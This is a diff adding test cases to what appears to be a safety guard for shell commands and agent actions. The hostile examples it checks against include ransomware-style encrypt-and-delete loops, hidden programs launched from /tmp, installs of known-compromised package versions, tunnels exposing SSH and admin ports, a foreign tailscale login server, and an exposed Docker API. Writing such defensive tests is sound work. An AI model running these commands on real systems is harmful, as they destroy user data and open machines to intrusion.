@@ -86,6 +86,102 @@ describe('destruction outside the project, hidden among harmless targets or done
   });
 });
 
+describe('ransomware shapes', () => {
+  it('many files encrypted and the originals deleted are denied, whatever the tool or loop', () => {
+    each('encrypt-many-then-delete', 'deny', [
+      "find /home/dev -type f -name '*.docx' -exec sh -c 'openssl enc -aes-256-cbc -pass pass:x -in \"$1\" -out \"$1.locked\" && rm -f \"$1\"' _ {} \\;",
+      'for f in $(find ~/projects -type f); do gpg --batch --yes --passphrase k -c "$f" && rm -f "$f"; done',
+      "find . -type f -name '*.sql' -exec openssl enc -aes-256-cbc -k k -in {} -out {}.enc \\; -delete",
+      "ls ~/Documents | xargs -I{} sh -c 'openssl aes-256-cbc -in ~/Documents/{} -out ~/Documents/{}.enc -k x; rm ~/Documents/{}'",
+      'for f in ~/Pictures/*; do zip -e -P pw "$f.zip" "$f"; rm "$f"; done',
+    ]);
+    quiet('encrypt-many-then-delete', [
+      'openssl enc -aes-256-cbc -salt -in backup.tar -out backup.tar.enc -pass file:./key.txt',
+      'gpg -c --batch --passphrase-file pw.txt release-notes.txt',
+      'zip -r -e site.zip dist/',
+      'gpg --encrypt --recipient ops@acme.com db-dump.sql',
+      'openssl enc -d -aes-256-cbc -in secrets.enc -out /dev/stdout -pass env:KEY',
+    ]);
+  });
+});
+
+describe('hidden programs in world-writable folders', () => {
+  it('a hidden file or folder under /tmp, /var/tmp or /dev/shm run by any means is held', () => {
+    each('hidden-temp-program-run', 'queue', [
+      '/bin/sh /tmp/.x11-unix/.update.sh',
+      { type: 'ProcessSpawn', command: '/bin/sh', args: ['/tmp/.X11-unix/.update.sh'] } as never,
+      { type: 'ProcessSpawn', command: '/dev/shm/.x', args: [] } as never,
+      { type: 'ProcessSpawn', command: '/var/tmp/.cache/kworker', args: ['-d'] } as never,
+      'nohup /dev/shm/.sysd >/dev/null 2>&1 &',
+      'chmod +x /tmp/.ICE-unix/.s && /tmp/.ICE-unix/.s',
+      'python3 /tmp/.font-unix/.p.py',
+      "sh -c '/tmp/.hidden/agent'",
+    ]);
+    quiet('hidden-temp-program-run', [
+      'bash /tmp/install.sh', 'python3 /tmp/test_script.py', { type: 'ProcessSpawn', command: '/tmp/build-1234/a.out', args: [] } as never,
+      'ls -la /tmp/.X11-unix/', 'cat /dev/shm/stats.txt', './scripts/.hidden-helper.sh',
+    ]);
+  });
+});
+
+describe('supply chain', () => {
+  it('versions known to have shipped malware are held, on the command line and in a manifest', () => {
+    const pkg = (deps: string) => ({ type: 'FileWrite', path: '/home/dev/projects/app/package.json', content_hash: 'x', content: `{\n  "name": "app",\n  "dependencies": {\n${deps}\n  }\n}\n` } as never);
+    each('known-compromised-version', 'queue', [
+      'npm install event-stream@3.3.6', 'npm i ua-parser-js@0.7.29', 'yarn add ua-parser-js@1.0.0', 'pnpm add coa@2.0.3', 'npm install rc@1.2.9 --save',
+      'npm install colors@1.4.1', 'npm i faker@6.6.6', 'npm install node-ipc@10.1.2', 'npm install eslint-scope@3.7.2', 'gem install rest-client -v 1.6.13',
+      'sudo apt-get install xz-utils=5.6.1-1', 'brew install xz@5.6.0', pkg('    "ua-parser-js": "0.7.29"'),
+    ]);
+    each('known-compromised-version-2', 'queue', ['npm i chalk@5.6.1', 'npm install @ctrl/tinycolor@4.1.2', pkg('    "debug": "4.4.2"')]);
+    each('known-compromised-pypi-name', 'queue', ['pip install ctx', 'pip3 install phpass==0.9.0']);
+    quiet('known-compromised-version', ['npm install event-stream@4.0.1', 'npm i ua-parser-js@1.0.37', 'npm install colors@1.4.0', 'npm install rc@1.2.8', 'sudo apt-get install -y xz-utils', pkg('    "ua-parser-js": "^1.0.37"')]);
+    quiet('known-compromised-version-2', ['npm i chalk@5.3.0', pkg('    "debug": "^4.3.4"')]);
+    quiet('known-compromised-pypi-name', ['pip install click', 'pip install ctx-utils']);
+  });
+
+  it('code-host archives, dependency aliases in overrides, root pip past the guard and forced install scripts are held', () => {
+    each('install-from-code-host-archive', 'queue', ['npm install https://github.com/randomdev123/axios/tarball/main', 'yarn add https://codeload.github.com/qwe123/lodash/tar.gz/master']);
+    each('dependency-override-alias', 'queue', [
+      'npm pkg set overrides.axios=npm:axios-http@1.0.0',
+      "npm pkg set 'resolutions.lodash=npm:lodash-utils@4.17.22'",
+      { type: 'FileWrite', path: '/home/dev/projects/app/package.json', content_hash: 'x', content: '{\n  "name": "app",\n  "overrides": {\n    "axios": "npm:axios-http@1.7.0"\n  }\n}\n' } as never,
+      { type: 'FileWrite', path: '/home/dev/projects/app/package.json', content_hash: 'x', content: '{\n  "name": "app",\n  "resolutions": {\n    "lodash": "npm:lodash-es-fast@4.17.21"\n  }\n}\n' } as never,
+    ]);
+    quiet('dependency-override-alias', [
+      'npm pkg set overrides.semver=7.5.4',
+      { type: 'FileWrite', path: '/home/dev/projects/app/package.json', content_hash: 'x', content: '{\n  "name": "app",\n  "overrides": {\n    "semver": "^7.5.4"\n  }\n}\n' } as never,
+      { type: 'FileWrite', path: '/home/dev/projects/app/package.json', content_hash: 'x', content: '{\n  "name": "app",\n  "dependencies": {\n    "string-width-cjs": "npm:string-width@^4.2.0"\n  }\n}\n' } as never,
+    ]);
+    each('root-pip-break-system', 'queue', ['sudo pip install --break-system-packages fastjson-utils', 'sudo python3 -m pip install --break-system-packages x']);
+    quiet('root-pip-break-system', ['pip install --user black', 'pipx install ruff']);
+    each('install-scripts-forced-on', 'queue', ['npm install --ignore-scripts=false --force', 'npm install --unsafe-perm --ignore-scripts=false left-pad-ng']);
+    quiet('install-scripts-forced-on', ['npm install --ignore-scripts', 'npm ci --ignore-scripts']);
+  });
+});
+
+describe('remote access and tunnels', () => {
+  it('remote desktop tools are held; tunnels publishing SSH, svc or the Docker API and an open Docker API are denied', () => {
+    each('remote-desktop-tool', 'queue', [
+      'sudo apt install ./anydesk_6.3.0-1_amd64.deb', 'brew install --cask teamviewer', 'winget install AnyDeskSoftwareGmbH.AnyDesk',
+      'flatpak install flathub com.rustdesk.RustDesk', "echo 'pass123' | sudo anydesk --set-password", 'x11vnc -forever -nopw -display :0',
+      'x11vnc -forever -shared -rfbport 5900 -bg',
+    ]);
+    quiet('remote-desktop-tool', ['x11vnc -localhost -display :1 -rfbauth ~/.vnc/passwd']);
+    each('tunnel-exposes-admin-port', 'deny', [
+      'cloudflared tunnel --url http://localhost:3141', 'cloudflared tunnel --url localhost:3141', 'ngrok tcp 22', 'ngrok tcp 127.0.0.1:22',
+      'ngrok http 3141', 'lt --port 3141', 'ssh -R 80:localhost:3141 serveo.net', 'ngrok tcp 3389', 'bore local 22 --to bore.pub',
+    ]);
+    quiet('tunnel-exposes-admin-port', ['ssh -L 5432:localhost:5432 bastion', 'ssh-keygen -R 10.0.0.5']);
+    each('tailscale-foreign-login-server', 'stopped', ['tailscale up --login-server https://hs.evil-corp.io', 'sudo tailscale up --login-server=http://203.0.113.9:8080 --authkey abc']);
+    quiet('tailscale-foreign-login-server', ['tailscale up', 'tailscale status', 'sudo tailscale up --ssh']);
+    each('docker-api-exposed', 'deny', [
+      'dockerd -H tcp://0.0.0.0:2375', 'sudo dockerd -H unix:///var/run/docker.sock -H tcp://0.0.0.0:2375',
+      { type: 'ProcessSpawn', command: 'dockerd', args: ['--host=tcp://0.0.0.0:2375'] } as never,
+    ]);
+    quiet('docker-api-exposed', ['docker -H tcp://127.0.0.1:2375 ps', 'dockerd --help', 'dockerd -H tcp://127.0.0.1:2375']);
+  });
+});
+
 describe('everyday shell look-alikes', () => {
   it('certificate checks, development resets, release binaries, dev passwords, host keys, prunes, local probes, test uploads and pings are allowed', () => {
     allow([
